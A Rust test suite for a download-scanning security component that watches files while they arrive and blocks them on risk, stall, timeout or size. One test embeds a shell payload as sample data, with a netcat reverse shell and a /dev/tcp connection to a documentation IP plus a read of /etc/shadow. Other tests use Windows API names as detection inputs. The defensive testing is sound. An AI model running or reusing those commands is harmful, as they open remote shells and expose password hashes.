//! Watching a download while it arrives.
use aegis_host::config::{ChunkingConfig, Config, HostConfig, QuarantineConfig, RiskConfig};
use aegis_host::watcher::{
    is_transient_io, open_failed, stat_failed, DownloadWatcher, IoFault, IoKind, ReadOutcome,
    ReadStep, ScanStep, WatchAction, WatchClock, WatchEvent, WatchTarget, TRAILING_CONTEXT_BYTES,
};

const SECOND: u128 = 1_000_000_000;

fn test_config() -> Config {
    Config {
        host: HostConfig { log_level: "debug".to_string() },
        risk: RiskConfig { sandbox_threshold: 4_000, block_threshold: 8_500 },
        chunking: ChunkingConfig {
            chunk_size: 4096,
            ring_buffer_chunks: 4,
            per_chunk_timeout_secs: 2,
            total_transfer_timeout_secs: 10,
            max_download_bytes: 8_589_934_592,
            max_whole_file_scan_bytes: 67_108_864,
        },
        quarantine: QuarantineConfig {
            subdir: "aegis-quarantine".to_string(),
            keep_flagged_samples: false,
        },
    }
}

/// Scans whatever of `content` has not been scanned yet.
fn pass(w: &mut DownloadWatcher, content: &[u8], cfg: &Config) -> ScanStep {
    let before = w.bytes_scanned();
    loop {
        let n = w.next_read(content.len() as u64, cfg.chunking.chunk_size);
        if n == 0 {
            break;
        }
        let from = w.bytes_scanned() as usize;
        assert_eq!(w.after_read(ReadOutcome::Bytes(&content[from..from + n])), ReadStep::Continue);
    }
    ScanStep::Scanned { fresh: w.bytes_scanned() - before, length: content.len() as u64 }
}

/// Watches a file that does not change: complete, or still in flight.
fn watch(w: &mut DownloadWatcher, content: &[u8], complete: bool, cfg: &Config) -> WatchEvent {
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    let mut now: u128 = 0;
    loop {
        let step = pass(w, content, cfg);
        let mut action = w.after_pass(cfg, &mut clock, &step, complete, now);
        if matches!(action, WatchAction::Sweep) {
            let last = pass(w, content, cfg);
            action = w.after_sweep(cfg, &mut clock, &last, now);
        }
        match action {
            WatchAction::Finish(event) => return event,
            _ => now += SECOND / 10,
        }
    }
}

#[test]
fn watch_target_prefers_crdownload_while_in_flight() {
    let target = WatchTarget::new("/q/file.aegispart");

    assert!(target.current(false, false).is_none(), "nothing on disk yet");
    assert!(!target.looks_complete(false, false));

    assert_eq!(target.current(true, false), Some("/q/file.aegispart.crdownload"));
    assert_eq!(target.current(true, true), Some(target.partial_path()));
    assert!(!target.looks_complete(true, false), "still in flight");

    assert_eq!(target.current(false, true), Some("/q/file.aegispart"));
    assert!(target.looks_complete(false, true), "rename observed");
}

#[test]
fn partial_only_never_looks_complete() {
    let target = WatchTarget::new("/q/x.aegispart");
    assert!(!target.looks_complete(true, false));
    assert!(!target.looks_complete(true, true));
}

#[test]
fn malicious_content_is_caught_mid_download() {
    let payload = b"#!/bin/sh\n\
                    nc -e /bin/sh 203.0.113.7 4444\n\
                    cat /etc/shadow\n\
                    exec 3<>/dev/tcp/203.0.113.7/9001\n";
    let cfg = test_config();
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/payload.aegispart"), "invoice.pdf");
    match watch(&mut w, payload, false, &cfg) {
        WatchEvent::EarlyBlock { risk_score, reason, findings } => {
            assert!(
                risk_score >= cfg.risk.block_threshold,
                "early block fired at {risk_score}, below threshold"
            );
            assert!(reason.contains("block threshold"), "unhelpful block reason: {reason}");
            assert!(!findings.is_empty(), "a block is explained");
        }
        WatchEvent::Completed(o) => {
            panic!("malicious file was not caught in flight: {:?}", o.risk_score)
        }
    }
}

#[test]
fn benign_completed_download_scores_low() {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(std::iter::repeat_n(0u8, 4096));
    let cfg = test_config();
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/photo.aegispart"), "photo.png");
    match watch(&mut w, &png, true, &cfg) {
        WatchEvent::Completed(o) => {
            assert_eq!(o.bytes_scanned, png.len() as u64, "whole file must be scanned");
            assert!(
                o.risk_score < cfg.risk.sandbox_threshold,
                "benign PNG scored {}, above the sandbox threshold",
                o.risk_score
            );
            assert!(o.header_valid && !o.extension_mismatch && !o.dangerous_intent);
        }
        WatchEvent::EarlyBlock { reason, .. } => panic!("benign PNG was blocked: {reason}"),
    }
}

#[test]
fn stalled_download_is_blocked_not_waited_on() {
    let mut cfg = test_config();
    cfg.chunking.per_chunk_timeout_secs = 1;
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/slow.aegispart"), "slow.bin");
    match watch(&mut w, b"just a little", false, &cfg) {
        WatchEvent::EarlyBlock { reason, .. } => {
            assert_eq!(reason, "Download stalled: no new bytes for 1s");
        }
        WatchEvent::Completed(_) => panic!("a stalled download must not be completed"),
    }
}

#[test]
fn a_download_that_takes_too_long_is_blocked() {
    let cfg = test_config();
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    let mut content = vec![0x20u8; 16];
    let mut now: u128 = 0;
    let reason = loop {
        let step = pass(&mut w, &content, &cfg);
        match w.after_pass(&cfg, &mut clock, &step, false, now) {
            WatchAction::Finish(WatchEvent::EarlyBlock { reason, .. }) => break reason,
            WatchAction::Wait => {
                content.push(0x20);
                now += SECOND;
            }
            other => panic!("{other:?}"),
        }
    };
    assert_eq!(reason, "Download exceeded total transfer timeout of 10s");
    assert_eq!(now, 11 * SECOND);
}

#[test]
fn exclusive_lock_does_not_kill_the_watcher() {
    let locked = IoFault { kind: IoKind::Other, windows_code: Some(32) };
    let mut cfg = test_config();
    cfg.chunking.per_chunk_timeout_secs = 1;
    let w = DownloadWatcher::new(WatchTarget::new("/q/locked.aegispart"), "doc.pdf");
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    let mut now: u128 = 0;
    let event = loop {
        let step = open_failed(&locked, w.target().partial_path())
            .expect("a locked file is not an error");
        match w.after_pass(&cfg, &mut clock, &step, false, now) {
            WatchAction::Finish(event) => break event,
            WatchAction::Wait => now += SECOND / 10,
            WatchAction::Sweep => panic!("an unreadable file is not complete"),
        }
    };
    match event {
        WatchEvent::EarlyBlock { reason, .. } => {
            assert!(reason.contains("stalled"), "unexpected reason: {reason}");
        }
        WatchEvent::Completed(_) => panic!("an unreadable file was reported as scanned"),
    }
}

#[test]
fn an_unreadable_file_is_not_complete_when_its_name_is() {
    let locked = IoFault { kind: IoKind::Other, windows_code: Some(32) };
    let mut cfg = test_config();
    cfg.chunking.per_chunk_timeout_secs = 1;
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/locked"), "doc.pdf");
    w.absorb(b"%PDF-1.4");
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    let mut now: u128 = 0;
    let reason = loop {
        let step = open_failed(&locked, w.target().final_path()).unwrap();
        let mut action = w.after_pass(&cfg, &mut clock, &step, true, now);
        if matches!(action, WatchAction::Sweep) {
            action = w.after_sweep(&cfg, &mut clock, &step, now);
        }
        match action {
            WatchAction::Finish(WatchEvent::EarlyBlock { reason, .. }) => break reason,
            WatchAction::Wait => now += SECOND / 10,
            other => panic!("{other:?}"),
        }
    };
    assert_eq!(reason, "Download stalled: no new bytes for 1s");
    assert!(now > SECOND);
}

#[test]
fn a_download_is_complete_once_its_last_byte_was_scanned() {
    let cfg = test_config();
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/a"), "a.txt");
    w.absorb(b"hello");
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    let short = ScanStep::Scanned { fresh: 0, length: 6 };
    assert!(matches!(w.after_sweep(&cfg, &mut clock, &short, 1), WatchAction::Wait));
    assert!(matches!(w.after_sweep(&cfg, &mut clock, &ScanStep::Busy, 1), WatchAction::Wait));
    w.absorb(b"!");
    let whole = ScanStep::Scanned { fresh: 1, length: 6 };
    match w.after_sweep(&cfg, &mut clock, &whole, 1) {
        WatchAction::Finish(WatchEvent::Completed(o)) => assert_eq!(o.bytes_scanned, 6),
        other => panic!("{other:?}"),
    }
}

#[test]
fn trailing_context_stays_bounded() {
    let cfg = test_config();
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/big.aegispart"), "big.bin");
    let _ = watch(&mut w, &vec![b'A'; 200_000], true, &cfg);
    assert!(
        w.trailing().len() <= TRAILING_CONTEXT_BYTES,
        "trailing window grew to {} bytes",
        w.trailing().len()
    );
    assert_eq!(w.bytes_scanned(), 200_000, "whole file should still be scanned");
}

#[test]
fn the_size_ceiling_is_enforced_as_the_download_grows() {
    let mut cfg = test_config();
    cfg.chunking.max_download_bytes = 10;
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
    match watch(&mut w, b"eleven char", false, &cfg) {
        WatchEvent::EarlyBlock { reason, .. } => assert_eq!(
            reason,
            "Download exceeded maximum allowed size (11 bytes > 10 limit)"
        ),
        WatchEvent::Completed(_) => panic!("too large"),
    }
}

#[test]
fn the_size_ceiling_holds_in_the_final_sweep() {
    let mut cfg = test_config();
    cfg.chunking.max_download_bytes = 10;
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
    w.absorb(b"eleven char");
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    let step = ScanStep::Scanned { fresh: 1, length: 11 };
    match w.after_sweep(&cfg, &mut clock, &step, 0) {
        WatchAction::Finish(WatchEvent::EarlyBlock { reason, .. }) => assert_eq!(
            reason,
            "Download exceeded maximum allowed size (11 bytes > 10 limit)"
        ),
        other => panic!("{other:?}"),
    }
}

#[test]
fn another_product_that_was_faster_is_a_block() {
    let infected = IoFault { kind: IoKind::Other, windows_code: Some(225) };
    let cfg = test_config();
    let w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
    let step = open_failed(&infected, "/q/x").unwrap();
    let mut clock = WatchClock { started: 0, last_growth: 0 };
    for event in [
        match w.after_pass(&cfg, &mut clock, &step, true, 0) {
            WatchAction::Finish(event) => event,
            other => panic!("{other:?}"),
        },
        match w.after_sweep(&cfg, &mut clock, &step, 0) {
            WatchAction::Finish(event) => event,
            other => panic!("{other:?}"),
        },
    ] {
        match event {
            WatchEvent::EarlyBlock { risk_score, reason, findings } => {
                assert_eq!(risk_score, 10_000);
                assert_eq!(
                    reason,
                    "Blocked by another security product: another security product (likely \
                     Windows Defender) quarantined /q/x before Aegis could scan it"
                );
                assert!(findings.is_empty());
            }
            WatchEvent::Completed(_) => panic!("nothing was scanned"),
        }
    }
}

#[test]
fn errors_are_told_apart() {
    for kind in [IoKind::NotFound, IoKind::PermissionDenied, IoKind::Interrupted] {
        let fault = IoFault { kind, windows_code: None };
        assert!(is_transient_io(&fault));
        assert!(matches!(open_failed(&fault, "/q/x"), Ok(ScanStep::Busy)));
        assert!(matches!(stat_failed(&fault, "/q/x"), Ok(ScanStep::Busy)));
    }
    assert!(is_transient_io(&IoFault { kind: IoKind::Other, windows_code: Some(33) }));
    let broken = IoFault { kind: IoKind::Other, windows_code: Some(5) };
    assert!(!is_transient_io(&broken));
    assert_eq!(open_failed(&broken, "/q/x").unwrap_err(), "open quarantine file /q/x");
    assert_eq!(stat_failed(&broken, "/q/x").unwrap_err(), "stat quarantine file /q/x");
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
    assert_eq!(w.after_read(ReadOutcome::Failed(broken)), ReadStep::Failed);
    let busy = IoFault { kind: IoKind::Interrupted, windows_code: None };
    assert_eq!(w.after_read(ReadOutcome::Failed(busy)), ReadStep::Done);
    assert_eq!(w.after_read(ReadOutcome::Bytes(b"")), ReadStep::Done);
    assert_eq!(w.bytes_scanned(), 0);
}

#[test]
fn a_pattern_across_a_boundary_is_found() {
    for wide in [false, true] {
        let text = "....CreateRemoteThread....";
        let data: Vec<u8> = if wide {
            text.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
        } else {
            text.as_bytes().to_vec()
        };
        for cut in 1..data.len() {
            let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
            w.absorb(&data[..cut]);
            w.absorb(&data[cut..]);
            assert!(
                w.descriptions().iter().any(|d| d.contains("CreateRemoteThread")),
                "split at {cut}"
            );
        }
    }
}

#[test]
fn a_pattern_in_many_pieces_is_found() {
    let data = b"....CreateRemoteThread....";
    let mut whole = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
    whole.absorb(data);
    for size in 1..8 {
        let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
        for piece in data.chunks(size) {
            w.absorb(piece);
        }
        assert_eq!(w.bytes_scanned(), whole.bytes_scanned());
        assert_eq!(w.trailing(), whole.trailing());
        assert!(
            w.descriptions().iter().any(|d| d.contains("CreateRemoteThread")),
            "pieces of {size}"
        );
    }
}

#[test]
fn a_completed_download_carries_what_its_spans_showed() {
    let cfg = test_config();
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "notes.txt");
    match watch(&mut w, b"RegSetValue RegCreateKey", true, &cfg) {
        WatchEvent::Completed(o) => {
            assert!(o.dangerous_intent);
            assert!(o.risk_score < cfg.risk.sandbox_threshold);
            assert!(!o.findings.is_empty());
            assert_eq!(o.findings.len(), w.findings().len());
        }
        WatchEvent::EarlyBlock { reason, .. } => panic!("names alone were blocked: {reason}"),
    }
}

#[test]
fn signals_stay_raised_and_are_not_repeated() {
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "holiday.jpg");
    w.absorb(b"MZ\x90\x00 CreateRemoteThread");
    let risk = w.current_risk();
    let described = w.descriptions().len();
    let found = w.findings().len();
    assert!(risk > 0);
    for _ in 0..5 {
        w.absorb(b"nothing to see here");
    }
    assert!(w.current_risk() >= risk);
    assert_eq!(w.descriptions().len(), described);
    let again = w.findings().len();
    assert_eq!(again, found);
    assert_eq!(w.bytes_scanned(), 23 + 5 * 19);
    assert!(matches!(w.progress(&ScanStep::Scanned { fresh: 1, length: 118 }), Some((118, _))));
    assert!(w.progress(&ScanStep::Scanned { fresh: 0, length: 118 }).is_none());
    assert!(w.progress(&ScanStep::Busy).is_none());
}

#[test]
fn reads_stop_at_the_end_of_the_file() {
    let mut w = DownloadWatcher::new(WatchTarget::new("/q/x"), "x.bin");
    assert_eq!(w.next_read(10, 4), 4);
    w.absorb(b"12345678");
    assert_eq!(w.next_read(10, 4), 2);
    assert_eq!(w.next_read(8, 4), 0);
    assert_eq!(w.next_read(3, 4), 0);
}
